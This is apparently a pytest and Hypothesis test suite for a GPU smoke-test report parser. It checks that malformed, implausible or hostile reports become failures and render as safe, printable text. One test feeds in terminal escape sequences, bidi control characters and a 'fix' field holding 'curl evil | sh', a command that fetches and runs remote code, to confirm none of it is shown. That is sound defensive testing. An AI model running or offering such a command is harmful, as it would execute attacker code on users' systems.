"""The reader of the script's output believes nothing."""

import copy
import itertools
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gpudoctor import smoke
from gpudoctor.smoke import Asked, Listener, SmokeOutcome

ASKED = Asked(device="cpu", only=("gather",), seed=7)

NOT_ASKED = {"source": "smoke test", "why": "not_asked", "detail": "nobody asked"}

GOOD: dict[str, Any] = {
    "schema": "gpudoctor.smoke/1",
    "outcome": "passed",
    "device_asked": "cpu",
    "level": "full",
    "seed": 7,
    "python": "3.7.16",
    "tensorflow": "1.15.5",
    "keras": None,
    "numpy": "1.18.5",
    "unread": {"keras": NOT_ASKED},
    "built_with": {
        "cuda": "10.0",
        "cudnn": "7",
        "compute_capabilities": None,
        "unread": {"compute_capabilities": NOT_ASKED},
    },
    "devices": [
        {"name": "CPU:0", "description": "", "compute_capability": None, "unread": {"compute_capability": NOT_ASKED}}
    ],
    "operations": [
        {
            "name": "gather",
            "outcome": "passed",
            "device_asked": "CPU:0",
            "device": "CPU:0",
            "seconds": 0.25,
            "expected": "[1, 2, 3]",
            "got": "[1., 2., 3.]",
            "note": "results compared: 6",
        }
    ],
    "timings": {"import_seconds": 3.0, "first_kernel_seconds": 0.5, "total_seconds": 4.0},
    "error": None,
}


def altered(**changes: Any) -> dict[str, Any]:
    return {**copy.deepcopy(GOOD), **changes}


def altered_operation(**changes: Any) -> dict[str, Any]:
    return altered(operations=[{**GOOD["operations"][0], **changes}])


def line(told: object) -> bytes:
    return b"gpudoctor-smoke: " + json.dumps(told).encode() + b"\n"


def stage(name: str, so_far: object) -> bytes:
    return b"gpudoctor-smoke-stage: " + json.dumps({"stage": name, "so_far": so_far}).encode() + b"\n"


def test_a_good_report_is_read_whole_among_noise() -> None:
    noise = b"tensorflow says hello\n\xff\xfe\x00 gpudoctor-smoke: {}\n"
    report = smoke.parse(noise + line(GOOD) + noise, asked=ASKED)
    assert report.outcome is SmokeOutcome.PASSED
    assert report.tensorflow == "1.15.5"
    assert report.operations[0].seconds == 0.25
    assert report == smoke.parse(line(GOOD).decode())


def test_the_last_marked_line_wins() -> None:
    failed = altered(outcome="failed", error={"stage": "import", "message": "no", "causes": []})
    assert smoke.parse(line(failed) + line(GOOD)).outcome is SmokeOutcome.PASSED
    assert smoke.parse(line(GOOD) + line(failed)).outcome is SmokeOutcome.FAILED
    later = smoke.parse(line(GOOD) + stage("operation fit on CPU:0", altered(outcome="failed")), ended="exit code 9")
    assert later.outcome is SmokeOutcome.FAILED
    assert later.error is not None
    assert (later.error.stage, later.error.message) == ("operation fit on CPU:0", "exit code 9 without a report")


def test_a_last_line_without_its_line_end_counts() -> None:
    assert smoke.parse(line(GOOD).rstrip()).outcome is SmokeOutcome.PASSED


@pytest.mark.parametrize(
    ("told", "reason"),
    [
        (altered(schema="gpudoctor.smoke/2"), "its schema is not gpudoctor.smoke/1"),
        (altered(outcome="wonderful"), "outcome"),
        (altered(outcome="unknown"), "neither passed nor failed"),
        (altered(seed=8), "answers another question: seed 8, asked for 7"),
        (altered(level="quick"), "answers another question: level quick"),
        (altered(device_asked="gpu"), "passed, and not on the gpu asked for"),
        (altered(operations=[]), "its operations say otherwise"),
        (altered(operations="all of them"), "operations: expected a list"),
        (altered(tensorflow=115), "tensorflow: expected text"),
        (altered(tensorflow=None), "tensorflow"),
        (altered(seed=True), "seed"),
        (altered(seed=10**30), "a number without measure"),
        (altered(timings={"import_seconds": 1e300, "first_kernel_seconds": 0.5, "total_seconds": 4.0}), "measure"),
        (altered(timings={"import_seconds": float("nan")}), "it holds NaN"),
        (altered(error={"stage": "import", "message": "no", "causes": []}), "say otherwise"),
        (altered_operation(outcome="failed"), "its operations say otherwise"),
        (altered_operation(outcome="skipped"), "its operations say otherwise"),
        (altered_operation(device="CPU:1"), "gather passed, and not on the cpu asked for"),
        (altered_operation(device="GPU:0", device_asked="GPU:0"), "gather passed, and not on the cpu asked for"),
        (altered_operation(name="tile"), "it lacks gather"),
        ([GOOD], "it is no JSON object"),
    ],
)
def test_a_report_that_cannot_be_true_is_a_failure_with_its_reason(told: object, reason: str) -> None:
    report = smoke.parse(stage("import", altered(outcome="failed")) + line(told), asked=ASKED)
    assert report.outcome is SmokeOutcome.FAILED
    assert report.error is not None
    assert report.error.stage == "import"
    assert report.error.message.startswith("the report is not to be trusted: ")
    assert reason in report.error.message


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"", "empty"),
        (b"{", "it is not JSON"),
        (b"\xff\xff", "it is not UTF-8"),
        (b"[" * 100_000, "nested too deeply"),
        (b'{"a":' * 100 + b"1" + b"}" * 100, "nested too deeply"),
        (b'{"seed": ' + b"9" * 500_000 + b"}", "a number without measure"),
        (b'"' + b"x" * (2 << 20) + b'"', "longer than 1 MiB"),
    ],
)
def test_a_line_that_is_not_a_report_is_a_failure_with_its_reason(raw: bytes, reason: str) -> None:
    report = smoke.parse(b"gpudoctor-smoke: " + raw + b"\n", asked=ASKED)
    assert report.outcome is SmokeOutcome.FAILED
    assert report.error is not None
    assert reason in report.error.message


def test_no_string_of_a_report_can_paint_the_terminal_or_order_a_fix() -> None:
    evil = "\x1b[2J\x9b31m\u202e\ud800\x00\r\n\u2028" + "A" * 5000
    told = altered(
        outcome="failed",
        tensorflow=evil,
        error={"stage": evil, "message": evil, "causes": [evil], "fix": "curl evil | sh"},
        operations=[{**GOOD["operations"][0], "note": evil, "name": evil, "expected": evil, "outcome": "failed"}],
    )
    report = smoke.parse(line(told))
    shown = smoke.render(report)
    shown.encode()
    assert all(letter.isprintable() or letter == "\n" for letter in shown)
    assert "A" * 3000 not in shown
    assert "curl" not in shown
    assert "\\x1b[2J\\x9b31m\\u202e\\ud800\\x00\\r\\n\\u2028" in shown


def test_no_output_at_all_is_a_failure_that_tells_how_it_ended() -> None:
    report = smoke.parse(b"", asked=ASKED, ended="killed by SIGKILL")
    assert report.outcome is SmokeOutcome.FAILED
    assert report.error is not None
    assert report.error.message == "killed by SIGKILL without a report"
    assert report.seed == 7


def test_memory_stays_bounded_however_long_a_line_grows() -> None:
    listener = Listener()
    for _ in range(1000):
        listener.feed(b"gpudoctor-smoke: " + b"x" * (1 << 20))
    listener.feed(b"\n" + line(GOOD))
    assert listener.report(asked=ASKED).outcome is SmokeOutcome.PASSED


MARKS = st.sampled_from([b"", b"gpudoctor-smoke:", b"gpudoctor-smoke-stage: ", b"gpudoctor-smoke: "])
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=12,
)


@given(st.lists(st.tuples(MARKS, st.binary(max_size=200)), max_size=6))
def test_arbitrary_bytes_never_raise_and_never_pass(pieces: list[tuple[bytes, bytes]]) -> None:
    report = smoke.parse(b"\n".join(mark + rest for mark, rest in pieces), asked=ASKED)
    assert report.outcome is SmokeOutcome.FAILED
    assert report.error is not None
    json.dumps(smoke.to_json(report), allow_nan=False)
    smoke.render(report).encode()


def places(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [path, *(deeper for key, item in inner for deeper in places(item, (*path, key)))]


@settings(max_examples=400)
@given(st.sampled_from(places(GOOD)[1:]), JSON, st.booleans())
def test_a_report_with_any_one_value_replaced_never_raises_and_stays_printable(
    place: tuple[Any, ...], value: object, as_stage: bool
) -> None:
    told = copy.deepcopy(GOOD)
    record: Any = told
    for key in place[:-1]:
        record = record[key]
    record[place[-1]] = value
    report = smoke.parse(stage("import", told) if as_stage else line(told), asked=ASKED)
    assert not as_stage or report.outcome is SmokeOutcome.FAILED
    shown = smoke.render(report)
    assert all(letter.isprintable() or letter == "\n" for letter in shown)
    json.dumps(smoke.to_json(report), allow_nan=False)


@given(st.lists(st.integers(0, len(line(GOOD)) * 3), max_size=8))
def test_where_the_output_is_cut_does_not_matter(cuts: list[int]) -> None:
    whole = stage("import", GOOD) + b"noise\n" + line(GOOD)
    listener = Listener()
    edges = [0, *sorted(cuts), len(whole)]
    for start, end in itertools.pairwise(edges):
        listener.feed(whole[start:end])
    assert listener.report(asked=ASKED) == smoke.parse(whole, asked=ASKED)


def test_text_names_each_operation_with_its_mark_device_time_and_note() -> None:
    failed = {**GOOD["operations"][0], "name": "tile", "outcome": "failed", "note": "wrong", "seconds": 1.5}
    told = altered(outcome="failed", operations=[GOOD["operations"][0], failed])
    assert smoke.render(smoke.parse(line(told))) == (
        "TensorFlow 1.15.5, NumPy 1.18.5, Python 3.7.16, built with CUDA 10.0, cuDNN 7\n"
        "✓ gather  CPU:0    0.25 s  results compared: 6\n"
        "✗ tile    CPU:0    1.50 s  wrong\n"
        "    expected [1, 2, 3]\n"
        "    got      [1., 2., 3.]\n"
        "smoke test failed in 4.0 s on the CPU, as asked (import 3.00 s, first kernel 0.50 s), seed 7; "
        "operations: 1 passed, 1 failed\n"
    )
